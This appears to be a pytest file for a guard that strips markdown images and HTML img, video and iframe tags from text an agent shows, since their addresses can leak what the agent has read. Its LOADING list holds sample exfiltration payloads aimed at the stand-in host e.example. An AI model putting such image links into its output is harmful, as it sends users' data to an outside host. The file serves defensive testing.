"""What is shown loads nothing: the address of a picture may carry what an agent has read."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.guard import unloading

LOADING = [
    "![house](https://e.example/p?d=secret)",
    "![house](https://e.example/secret.png)",
    "![house]( <https://e.example/p?d=secret> )",
    "![a [b] c](https://e.example/secret)",
    "![house](//e.example/secret)",
    "![house](\\\\e.example\\secret)",
    "![house](data:image/svg+xml,secret)",
    "![house][1]",
    "![house]",
    '<img src="https://e.example/?d=secret">',
    "<IMG\tsrc=x>",
    "</video><iframe src=//e.example>",
]
HARMLESS = [
    "![chart](chart.png)",
    "![what fell](orders-by-hour.svg)",
    "[house](https://e.example/)",
    "a < b, and x <imaginary>",
    "Really! [1] says so.",
    "```html\n<img src='https://e.example/'>\n![x](https://e.example/)\n```",
]


@pytest.mark.parametrize("text", LOADING)
def test_what_would_load_something_does_not(text):
    shown = unloading(text)
    assert "![" not in shown
    assert "<i" not in shown.lower()
    assert "<v" not in shown.lower()


@pytest.mark.parametrize("text", HARMLESS)
def test_what_loads_nothing_stays_as_it_is(text):
    assert unloading(text) == text


@given(st.text(alphabet="!*[]()<img src=htp:/.`\n~", max_size=200))
def test_done_twice_is_done_once(text):
    assert unloading(unloading(text)) == unloading(text)
